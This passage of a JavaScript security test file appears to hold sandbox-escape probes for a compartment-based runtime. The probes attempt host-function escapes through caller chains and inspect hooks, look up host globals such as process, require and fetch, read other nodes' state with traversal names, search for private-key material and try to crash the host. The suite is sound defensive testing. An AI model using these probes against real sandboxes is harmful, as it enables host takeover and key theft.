      const grab = (f) => { try { const c = f.caller; if (c) got = viaFunction(c.constructor, env, 'host caller ' + c.name); } catch (e) { got = 'blocked: ' + e.message; } };
      const evil = { toJSON: function toJSON() { grab(toJSON); return 1; } };
      ctx.log(evil);
      const fn = () => 1;
      Object.defineProperty(fn, 'toString', { value: function toString() { grab(toString); return '() => 1'; } });
      try { await ctx.at(env.victim, fn); } catch (e) {}
      try { await ctx.index('i').entries({ limit: { valueOf: function valueOf() { grab(valueOf); return 1; } } }); } catch (e) {}
      return got;
    }`,
  },
  {
    name: 'RegExp legacy statics after host code ran regexes',
    source: 'https://github.com/tc39/proposal-regexp-legacy-features (RegExp.$1, lastMatch); endojs/endo packages/ses tame-regexp-constructor',
    body: js`async (ctx, env) => { ${H}
      try { await ctx.at(env.victim, () => 1); } catch (e) {}
      try { ctx.ref('a\u0000b'); } catch (e) {}
      const leaked = [];
      for (const k of ['$1', '$2', '$_', 'lastMatch', 'input', 'leftContext', 'rightContext', 'lastParen']) { try { const v = RegExp[k]; if (typeof v === 'string' && v.length) leaked.push(k + '=' + v); } catch (e) {} }
      return leaked.length ? 'ESCAPED:RegExp statics ' + leaked.join(' ') : 'blocked: no legacy statics';
    }`,
  },
  {
    name: 'Function.prototype.toString of ctx methods (host source)',
    source: 'vm2 docs/ATTACKS.md (Reflect / descriptor extraction to find host closures); Function.prototype.toString',
    body: js`(ctx, env) => { ${H}
      const texts = [];
      for (const k of Reflect.ownKeys(ctx)) { const v = ctx[k]; if (typeof v === 'function') texts.push(String(k) + ': ' + Function.prototype.toString.call(v).slice(0, 200)); }
      const ref = ctx.ref('x');
      texts.push(Function.prototype.toString.call(ref.get).slice(0, 200));
      return texts.join('\n');
    }`,
  },
  {
    name: 'Object.getOwnPropertyDescriptors over ctx for host closures',
    source: 'vm2 docs/ATTACKS.md Category 8 (Object.getOwnPropertyDescriptors, Reflect.ownKeys on exposed objects)',
    body: js`(ctx, env) => { ${H}
      const found = [];
      const objs = [ctx, ctx.ref('x'), ctx.index('i'), ctx.caps, ctx.Lifetime, ctx.here, Object.getPrototypeOf(ctx.here)];
      for (const o of objs) {
        const d = Object.getOwnPropertyDescriptors(o);
        for (const k of Reflect.ownKeys(d)) {
          const v = d[k].value || d[k].get;
          if (typeof v === 'function') {
            const r = viaFunction(v.constructor, env, 'descriptor ' + String(k));
            if (r.startsWith('ESCAPED')) return r;
            for (const kk of Reflect.ownKeys(v)) found.push(String(k) + '.' + String(kk));
          }
        }
      }
      return 'blocked: only ' + [...new Set(found)].join(',');
    }`,
  },

  // --- ambient authority: globals, network, wasm, shared memory, weak refs -------------------------------
  {
    name: 'globalThis lookups for host globals',
    source: 'SPEC §5 ("no process, require, import(), file system, network, timers"); endojs/endo packages/ses README (no ambient authority)',
    body: js`(ctx, env) => { ${H}
      // console, structuredClone and crypto are a node's own, hardened wrappers (test/functions/globals.test.ts).
      const names = ['process', 'require', 'module', 'exports', 'global', 'Buffer', 'fetch', 'XMLHttpRequest', 'WebSocket', 'setTimeout', 'setInterval', 'setImmediate', 'performance', 'WebAssembly', 'SharedArrayBuffer', 'Atomics', 'FinalizationRegistry', 'WeakRef', 'navigator', 'Deno', 'Bun', '__dirname', '__filename'];
      const scopes = [globalThis, new Compartment().globalThis, new Compartment({ __options__: true }).globalThis];
      const present = [];
      for (const g of scopes) for (const n of names) { try { if (g[n] !== undefined) present.push(n); } catch (e) {} }
      for (const n of names) { try { if ((0, eval)('typeof ' + n) !== 'undefined') present.push('scope:' + n); } catch (e) {} }
      if (present.includes('process')) return pwn(globalThis.process, env, 'global');
      if (present.includes('require')) return viaRequire(globalThis.require, env, 'global');
      return present.length ? 'ESCAPED:host globals ' + [...new Set(present)].join(',') : 'blocked: no host globals';
    }`,
  },
  {
    name: 'network: fetch, sockets, http through any reachable object',
    source: 'vm2 CVE-2026-47140 / GHSA-rp36-8xq3-r6c4 (process and inspector reachable); SPEC §5 (no network)',
    body: js`async (ctx, env) => { ${H}
      const candidates = [globalThis.fetch, globalThis.WebSocket, globalThis.XMLHttpRequest, globalThis.EventSource];
      for (const f of candidates) {
        if (typeof f === 'function') {
          try { const r = await f('http://127.0.0.1:9/'); return 'ESCAPED:network ' + typeof r; } catch (e) { return 'ESCAPED:network function present: ' + e.message; }
        }
      }
      return 'blocked: no network primitives';
    }`,
  },
  {
    name: 'custom inspect hook handed to host code (WebAssembly.compileStreaming, ctx.log, results)',
    source: 'GHSA-g644-9gfx-q4q4 / CVE-2023-37903 (https://gist.github.com/leesh3288/e4aa7b90417b0b0ac7bcd5b09ac7d3bd)',
    body: js`async (ctx, env) => { ${H}
      let got = 'blocked: inspect hook never called';
      const obj = {
        [Symbol.for('nodejs.util.inspect.custom')]: (depth, opt, inspect) => { got = viaFunction(inspect && inspect.constructor, env, 'inspect'); return 'x'; },
        valueOf: undefined,
        constructor: undefined,
      };
      try { WebAssembly.compileStreaming(obj).catch(() => {}); } catch (e) {}
      ctx.log(obj);
      try { await ctx.ref('x').set(obj); } catch (e) {}
      await null;
      return got;
    }`,
  },
  {
    name: 'inspect options manipulation through a custom inspect hook',
    source: 'GHSA-p5gc-c584-jj6v / CVE-2023-32313 (read-write reference to util.inspect)',
    body: js`async (ctx, env) => { ${H}
      let got = 'blocked: inspect never handed over';
      const hook = { [Symbol.for('nodejs.util.inspect.custom')]: (d, options, inspect) => { try { inspect.defaultOptions.depth = 0; got = 'ESCAPED:changed inspect.defaultOptions'; } catch (e) { got = 'blocked: ' + e.message; } return ''; } };
      const p = Promise.reject(hook);
      p.catch(() => {});
      try { ctx.log('%o', hook); } catch (e) {}
      await null;
      return got;
    }`,
  },
  {
    name: 'WebAssembly by any path',
    source: 'GHSA-ffh4-j6h5-pg66 / CVE-2026-26956 (WASM sandbox escape); issue 4 ("WebAssembly")',
    body: js`(ctx, env) => { ${H}
      const paths = [() => WebAssembly, () => globalThis.WebAssembly, () => new Compartment().globalThis.WebAssembly, () => (0, eval)('WebAssembly')];
      for (const p of paths) { try { const W = p(); if (W) return 'ESCAPED:WebAssembly ' + Object.keys(W).join(','); } catch (e) {} }
      return 'blocked: no WebAssembly';
    }`,
  },
  {
    name: 'Atomics.wait on a SharedArrayBuffer',
    source: 'issue 4 ("Atomics.wait, SharedArrayBuffer"); https://developer.mozilla.org/docs/Web/JavaScript/Reference/Global_Objects/Atomics/wait',
    body: js`(ctx, env) => { ${H}
      let SAB;
      try { SAB = SharedArrayBuffer; } catch (e) {}
      try { SAB = SAB || new Compartment().globalThis.SharedArrayBuffer; } catch (e) {}
      if (typeof SAB !== 'function') return 'blocked: no SharedArrayBuffer';
      const cell = new Int32Array(new SAB(4));
      try { Atomics.wait(cell, 0, 0, 10); } catch (e) { return 'ESCAPED:SharedArrayBuffer, Atomics ' + e.message; }
      return 'ESCAPED:SharedArrayBuffer and Atomics.wait';
    }`,
  },
  {
    name: 'FinalizationRegistry and WeakRef',
    source: 'GHSA-r4fx-v8hh-22mv (FinalizationRegistry cleanup callback bypasses the timeout); issue 4',
    body: js`(ctx, env) => { ${H}
      const out = [];
      for (const n of ['FinalizationRegistry', 'WeakRef']) {
        try { const C = (0, eval)(n); if (typeof C === 'function') out.push(n); } catch (e) {}
        try { if (new Compartment().globalThis[n]) out.push('child:' + n); } catch (e) {}
      }
      return out.length ? 'ESCAPED:' + out.join(',') : 'blocked: no weak references';
    }`,
  },
  {
    name: 'domain-module promise.domain',
    source: 'https://github.com/endojs/endo/issues/126 (Node domain module hands host objects to promises)',
    body: js`(ctx, env) => { ${H}
      const ps = [Promise.resolve(), ctx.ref('x').get(), (async () => {})()];
      for (const p of ps) { const d = p.domain; if (d) return viaFunction(d.constructor && d.constructor.constructor, env, 'domain'); }
      return 'blocked: no promise.domain';
    }`,
  },
  {
    name: 'Date, Math, harden, lockdown and Compartment endowments',
    source: 'endojs/endo packages/ses README (lockdown, harden, Compartment); keynode node-worker/sandbox.ts (Date and Math from the start compartment)',
    body: js`(ctx, env) => { ${H}
      const fns = [Date, Date.now, Date.prototype.getTime, Math.random, harden, lockdown, Compartment, Compartment.prototype.evaluate];
      for (const f of fns) { const r = viaFunction(f && f.constructor, env, 'endowment ' + (f && f.name)); if (r.startsWith('ESCAPED')) return r; }
      try { lockdown(); return 'ESCAPED:lockdown ran again'; } catch (e) {}
      return 'blocked: endowments are tame';
    }`,
  },
  {
    name: 'Node-internal objects behind TextEncoder and TextDecoder',
    source: 'vm2 docs/ATTACKS.md Category 8 (symbol-keyed internals of host objects); GHSA-47x8-96vw-5wg6 (structural leak of host built-ins)',
    body: js`(ctx, env) => { ${H} ${WALK}
      const roots = [['td', new TextDecoder()], ['te', new TextEncoder()]];
      const grab = (name, f) => { try { f(); } catch (e) { roots.push([name, e]); } };
      grab('ERR_ENCODING_NOT_SUPPORTED', () => new TextDecoder('no-such-encoding'));
      grab('ERR_INVALID_ARG_TYPE', () => new TextEncoder().encodeInto('x', 'y'));
      grab('ERR_INVALID_THIS', () => TextDecoder.prototype.decode.call({}, new Uint8Array(1)));
      grab('fatal', () => new TextDecoder('utf-8', { fatal: true }).decode(new Uint8Array([0xff])));
      let result = 'blocked: Node internals reachable but tame';
      walk(roots, (path, o) => {
        if (result.startsWith('ESCAPED')) return;
        if (o && typeof o === 'object' && typeof o.pid === 'number') result = pwn(o, env, path);
        if (typeof o === 'function' && /^(require|binding|internalBinding)$/.test(o.name)) result = viaRequire(o, env, path);
        if (typeof o === 'function') { const r = viaFunction(o.constructor, env, path); if (r.startsWith('ESCAPED')) result = r; }
      });
      return result;
    }`,
  },

  // --- another node's state ------------------------------------------------------------------------------
  {
    name: "another node's ref through ctx.at",
    source: 'SPEC §5 (contacts, AccessControl); issue 4 ("another node\'s state")',
    body: js`async (ctx, env) => { ${H}
      const out = [];
      for (const target of [env.victim, env.victimId, { url: env.victim, id: env.victimId }, { [Symbol.for('keynode.noderef')]: true, url: env.victim, id: env.victimId }]) {
        try { return 'ESCAPED:' + (await ctx.at(target, (c) => c.ref('secret').get())); } catch (e) { out.push(e.code); }
      }
      return 'blocked: ' + out.join(',');
    }`,
  },
  {
    name: "another node's state through ref and index names",
    source: 'keynode store/keys.ts (refs keyed id + name); path traversal and separator injection (CWE-22, CWE-88)',
    body: js`async (ctx, env) => { ${H}
      const found = [];
      const names = [env.victimId + 'secret', '../' + env.victimId + '/secret', '/' + env.victimId + '/secret', 'secret', env.victimId, '\uffff', '\u0001secret'];
      for (const n of names) { try { const v = await ctx.ref(n).get(); if (v != null) found.push(n + '=' + String(v)); } catch (e) {} }
      for (const n of ['secret', env.victimId, '\uffff']) {
        try { const rows = await ctx.index(n).entries({ prefix: '', limit: 10000 }); if (rows.length) found.push(n + ':' + JSON.stringify(rows)); } catch (e) {}
        try { const v = await ctx.index(n).get(env.victimId + 'secret'); if (v != null) found.push(String(v)); } catch (e) {}
      }
      return found.length ? 'ESCAPED:' + found.join(' ') : 'blocked: nothing but own (empty) state';
    }`,
  },
  {
    name: 'another node through destroy, spawn and capabilities',
    source: 'SPEC §3/§5 (destroy needs the key or ancestry; spawn and capabilities only as granted)',
    body: js`async (ctx, env) => { ${H}
      const out = [];
      try { await ctx.destroy(env.victim); return 'ESCAPED:destroyed the other node'; } catch (e) { out.push('destroy ' + e.code); }
      try { await ctx.spawn({ lifetime: ctx.Lifetime.root(), sandbox: { contacts: 'any' } }); return 'ESCAPED:spawned'; } catch (e) { out.push('spawn ' + e.code); }
      const caps = Reflect.ownKeys(ctx.caps);
      if (caps.length) return 'ESCAPED:capabilities ' + caps.join(',');
      return 'blocked: ' + out.join(', ');
    }`,
  },

  // --- the node's own private key ------------------------------------------------------------------------
  {
    name: "the node's private key on any reachable object",
    source: 'SPEC §6 (private keys never leave the container); vm2 docs/ATTACKS.md Category 8 (reflection over exposed objects)',
    body: js`async (ctx, env) => { ${H} ${WALK}
      const roots = [['globalThis', globalThis], ['ctx', ctx], ['ref', ctx.ref('x')], ['index', ctx.index('i')], ['promise', ctx.ref('x').get()], ['td', new TextDecoder()]];
      try { ctx.ref(''); } catch (e) { roots.push(['error', e]); }
      try { await ctx.at('nonsense', () => 1); } catch (e) { roots.push(['atError', e]); }
      const hits = [];
      const count = walk(roots, (path, o) => {
        if (o instanceof Uint8Array && (o.length === 32 || o.length === 64)) hits.push(path + '=' + Array.from(o).join(','));
        if (o instanceof ArrayBuffer && (o.byteLength === 32 || o.byteLength === 64)) hits.push(path + '=' + Array.from(new Uint8Array(o)).join(','));
        if (typeof o === 'string' && (/^[0-9a-f]{64}$/i.test(o) || /^[A-Za-z0-9+/_-]{43}=?$/.test(o) || /PRIVATE KEY/.test(o))) hits.push(path + '=' + o);
        if (o && typeof o === 'object' && (o.asymmetricKeyType || o.type === 'private')) hits.push(path + ' is a KeyObject');
      });
      return hits.length ? 'ESCAPED:key material ' + hits.join(' ') : 'blocked: no key material in ' + count + ' reachable objects';
    }`,
  },
  {
    name: 'private key through the eval frame buffer behind decoded bytes',
    source: 'keynode node-worker/channel.ts (decoded values are views on the frame); Uint8Array.prototype.buffer over-read',
    body: js`async (ctx, env, bytes) => { ${H}
      const b = bytes instanceof Uint8Array ? bytes : new Uint8Array(0);
      const whole = new Uint8Array(b.buffer);
      const text = new TextDecoder('utf-8', { fatal: false }).decode(whole);
      // Built from parts: the frame also holds this function's own source, which must not match itself.
      const fields = new RegExp(['secret' + 'Key', 'sealed' + 'Key', 'private' + 'Key', 'se' + 'ed'].join('|'));
      if (fields.test(text)) return 'ESCAPED:frame holds key fields: ' + text.slice(0, 200);
      return 'blocked: the frame behind an argument holds ' + whole.length + ' bytes of this eval only';
    }`,
  },

  // --- the error reporter and the worker's own handlers --------------------------------------------------
  {
    name: 'getters on a thrown value look for their caller',
    source: 'vm2 docs/ATTACKS.md Category 4/5 (errors as vehicles; callers of getters the host invokes)',
    body: js`(ctx, env) => { ${H}
      const probe = function message() { try { const c = probe.caller; if (c) return viaFunction(c.constructor, env, 'reporter caller'); } catch (e) { return 'blocked: ' + e.message; } return 'blocked: no caller'; };
      throw { get name() { return 'Probe'; }, get message() { return probe(); }, get code() { try { return ctx.ref('x') && 'ctx alive'; } catch (e) { return e.code; } } };
    }`,
  },
  {
    name: 'unhandled rejection with an evil reason reaches the worker handler',
    source: 'GHSA-hw58-p9xv-2mjh / CVE-2026-44001 (an unhandled rejection from the sandbox crashes the host)',
    body: js`async (ctx, env) => { ${H}
      const evil = { toString() { throw new Error('evil toString'); }, get stack() { for (let i = 0; i < 1e6; i++); throw new Error('evil stack'); }, get message() { throw new Error('evil message'); } };
      Promise.reject(evil);
      new Promise((_, reject) => reject(evil));
      (async () => { throw evil; })();
      await null;
      return 'blocked: the worker only reports it';
    }`,
  },
];
